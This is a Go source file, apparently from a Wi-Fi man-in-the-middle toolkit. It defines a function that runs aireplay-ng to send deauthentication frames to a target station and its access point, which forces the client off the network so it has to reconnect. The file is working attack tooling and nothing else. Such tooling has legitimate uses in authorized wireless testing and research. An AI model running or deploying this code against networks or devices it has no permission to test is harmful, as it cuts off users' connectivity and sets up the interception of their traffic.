package attack

import (
	"context"
	"errors"
	"fmt"
	"os/exec"
	"strconv"

	"github.com/toramanemre/wifimitm/pkg/model"
	"github.com/toramanemre/wifimitm/pkg/proc"
)

// Deauthenticate sends count series of deauthentication frames to a station
// associated with an access point, forcing it to reconnect. Fire and forget:
// the aireplay-ng run is not supervised and its output is discarded.
func Deauthenticate(ctx context.Context, iface model.WirelessInterface, st *model.WirelessStation, count int) error {
	if count <= 0 {
		return fmt.Errorf("deauthentication count must be positive, got %d", count)
	}
	if st.AssociatedAP == nil {
		return fmt.Errorf("station %s has no associated access point", st.MAC)
	}

	cmd := exec.CommandContext(ctx, "aireplay-ng",
		"--deauth", strconv.Itoa(count),
		"-a", st.AssociatedAP.BSSID,
		"-c", st.MAC,
		iface.Name,
	)
	if err := cmd.Run(); err != nil {
		var exitErr *exec.ExitError
		if !errors.As(err, &exitErr) {
			return &proc.SpawnError{Command: "aireplay-ng", Err: err}
		}
		return fmt.Errorf("deauthenticate %s: %w", st.MAC, err)
	}
	return nil
}
